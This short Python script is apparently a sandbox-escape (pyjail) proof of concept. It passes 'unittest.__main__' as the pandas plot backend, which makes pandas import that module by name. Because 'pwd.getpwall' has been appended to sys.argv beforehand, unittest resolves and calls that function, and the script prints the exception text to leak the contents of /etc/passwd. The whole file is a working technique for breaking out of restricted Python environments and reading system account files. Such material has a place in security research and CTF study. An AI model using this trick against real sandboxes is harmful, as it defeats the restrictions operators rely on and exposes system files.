# source: pandas plotting backend loader (pandas/plotting/_core.py _load_backend -> importlib.import_module), pyjail "import an unguarded __main__" trick; unittest.loader.loadTestsFromName
# family: module import by name via pandas plot backend passed through **{dict literal}; unittest.__main__ runs on import and resolves+calls dotted names from sys.argv
# goal: call pwd.getpwall() -> contents of /etc/passwd
import sys
import pandas as pd

sys.argv.extend(["pwd.getpwall"])
df = pd.DataFrame({"close": [1.0, 1.5, 2.0]})
try:
    df.plot(**{"backend": "unittest.__main__"})
except (ValueError, TypeError, SystemExit) as e:
    print("leak:", e)
